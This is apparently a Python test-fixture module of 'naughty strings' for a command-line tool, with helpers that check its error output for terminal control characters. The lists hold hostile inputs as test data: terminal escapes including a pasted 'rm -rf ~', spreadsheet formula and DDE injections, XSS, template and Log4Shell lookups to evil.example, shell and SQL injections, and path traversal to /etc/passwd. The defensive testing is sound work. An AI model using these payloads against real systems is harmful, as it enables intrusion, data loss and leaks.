"""Naughty strings: what people paste, mistype or plant, each of which some other program has taken for a command.

Lone surrogates stand for bytes that are no UTF-8, as an argument or a file name may hold them.
"""

from __future__ import annotations

import unicodedata

from tests.cli.texts import NAUGHTY, REFUSED

MARKUP = (
    "[red]",
    "[/3]",
    "[/]",
    "[link=file:///etc/passwd]报表[/link]",
    "[bold red on white]x[/]",
    "[@click=app.quit]按[/]",
    r"\[red]",
    ":skull: :warning:",
)
STEERING = (
    "\x1b[2J\x1b[H",
    "\x1b]0;标题\x07",
    "\x1b]8;;http://evil.example\x1b\\点\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b[201~rm -rf ~\n\x1b[200~",
    "\x1bP$q\x1b\\",
    "\x1b[6n\x1b[c\x1bc",
    "\x9b31m红",
    "\x9d0;标题\x9c",
    "\x90q\x9c",
    "\x85下一行",
    "铃\x07铃",
    "密码\x08\x08退格",
    "换行符\x0b\x0c",
    "shift\x0e\x0f",
    "删\x7f",
    "单位分隔\x1f\x1e\x1d\x1c",
)
OVERWRITING = ("合格\r不合", "合格\r\n不合格", "一\n二\n\n三", "\t制表", "\r=1+1", "\n=1+1")
INVISIBLE = (
    "\u202e倒着写\u202c",
    "\u2066隔\u2069",
    "\u200f右\u061c",
    "零\u200b宽",
    "\ufeff桂香村",
    "软\u00ad连",
    "\u2060",
    "\u2028行\u2029段",
    "\udcff\udc80",
    "\ud83d半个",
    "\U000e0041标签",
    "\u3164",
    "\u2800",
    "\u00a0",
    "\ufff9注\ufffa音\ufffb",
    "非\uffff\ufffe\U0010ffff\ufdd0字符",
)
MARKS = (
    "Z̴̢̛̰͎̗͌͋̔a̷̧̨͓͋l̵͖̈́g̶͉̅o̴͓̍",
    "e\u0301é",
    "각각",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿👩🏽‍🚒🇨🇳",
    "𝕬𝖇𝖈𠀀𪜀",
    "قائمة العربية",
    "שָׁלוֹם",
    "ด้้้้้็็็็็้้้้้็็็็็",
    "\ue000",
    "İıſßŉ",
    "①㎡㈱ﬃ",
    "\u0300",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"看")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    "'=1+1",
    "''+1",
    "'",
    "=",
    "＝1＋1",
    "＋8613800000000",
    "－1",
    "＠SUM(1)",
    'DDE("cmd";"/C calc";"x")',
    "1;=1+1",
    "{=1+1}",
    "_x003D_1+1",
    "#REF!",
)
WEB = (
    "<script>alert('1')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "&lt;b&gt; &amp; &#x3c;",
    "<!-- --> <![CDATA[x]]> <?php ?>",
    "javascript:alert(1)",
    "[看](javascript:alert(1))",
    "![图](http://evil.example/x.png)",
    "<http://evil.example>",
    "[a]: http://evil.example",
    "| 一 | 二 |\n| --- | --- |",
    "|",
    "左\\|右",
    "\\",
    "# 标题\n- [ ] 一\n> 引\n```",
    "`a` ~~b~~ __c__ $x^2$",
)
RUN = (
    "{{7*7}}",
    "{% for x in y %}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7} <%= 7*7 %>",
    "%s%n%d %(x)s",
    "{0} {x.__class__} {",
    "$(touch ran)",
    "`touch ran`",
    "\\$(touch ran)",
    "; touch ran;",
    "' && touch ran '",
    '" || touch ran #',
    "!! !$ $HOME ~ *",
    "%PATH% ^& echo",
    "__import__('os').system('touch ran')",
    "!!python/object/apply:os.system ['touch ran']",
    "*x &x !x @x : -",
)
QUERIES = (
    "'; DROP TABLE hazard; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; ATTACH 'ran' AS x",
    "%",
    "_",
    "桂%村",
    "桂_村",
    "*",
    "[a-z]",
    "--",
    "/* */",
    "id) UNION SELECT 1 --",
    ":unit ?1 @p $p",
)
PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "CON",
    "NUL.csv",
    "file:///etc/passwd",
    "file:x?mode=memory&cache=shared",
    "http://evil.example/a.csv",
    "~/x",
    ".",
    "..",
    "a/../b",
    "\\\\server\\share",
)
QUOTES = (
    "a,b;c\td",
    '"',
    '""',
    '他说"好",走',
    "', \"",
    "\\n\\u0000\\x1b",
    '{"a": [1}',
    "\\",
    "、",
    "，；",
    "很" * 199 + "长",
    "很" * 200 + "长",
    "x" * 70000,
)
LOOKALIKES = (
    "0",
    "-0",
    "007",
    "1e400",
    "1E5",
    "1.23457E+17",
    "9" * 30,
    "-9223372036854775809",
    "0x1F",
    "1_000",
    "²³",
    "٢٠٢٢-٠٤-٢٠",
    "２０２２-０４-２０",
    "2022-02-30",
    "2022/13/45",
    "44671",
    "3-4",
    "12:30",
    "23%",
    "+15d",
    "+99999999999999999999d",
    "+999999999wd",
    "YH-2022-0001",
    "YH-9999-9999999",
    "None",
    "null",
    "NaN",
    "Infinity",
    "true",
    "FALSE",
    "undefined",
    "是",
    "无",
    "同上",
    "合计",
    "today",
    "-",
    "--help",
    "-h",
    "@file",
    "",
    " ",
)
STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *NAUGHTY.values(),
            *REFUSED.values(),
            *MARKUP,
            *STEERING,
            *OVERWRITING,
            *INVISIBLE,
            *MARKS,
            *FORMULAS,
            *WEB,
            *RUN,
            *QUERIES,
            *PATHS,
            *QUOTES,
            *LOOKALIKES,
        )
    )
)
ARGUMENTS = tuple(text for text in STRINGS if "\ud83d" not in text)
"""Those that an argument can hold: whole characters, and bytes that are no UTF-8."""
JOINING = "\u200c\u200d" + "".join(map(chr, range(0xE0020, 0xE0080)))
"""Characters that hold emoji and Indic letters together; they steer nothing."""


def steering(text: str, allowed: str = "\n") -> set[str]:
    """Return the characters of `text` that may steer a terminal or hide what stands there."""
    return {
        character
        for character in set(text) - set(allowed) - set(JOINING)
        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        or ord(character) & 0xFFFE == 0xFFFE
    }


def complaint(error: str, most: int = 1000) -> str | None:
    """Return what is wrong with an error on stderr: it is one line, and perhaps one with the way out."""
    lines = error.removesuffix("\n").split("\n")
    if not lines[0].startswith("zizhao: 错误: ") or "程序出错" in lines[0]:
        return f"no named error: {error[:most]!r}"
    if len(lines) > 2 or not all(line.startswith("  ") for line in lines[1:]):
        return f"more than an error and its way out: {error[:most]!r}"
    if characters := steering(error):
        return f"{characters!r} in {error[:most]!r}"
    return None if len(error) <= most else f"{len(error)} characters: {error[:60]!r}"
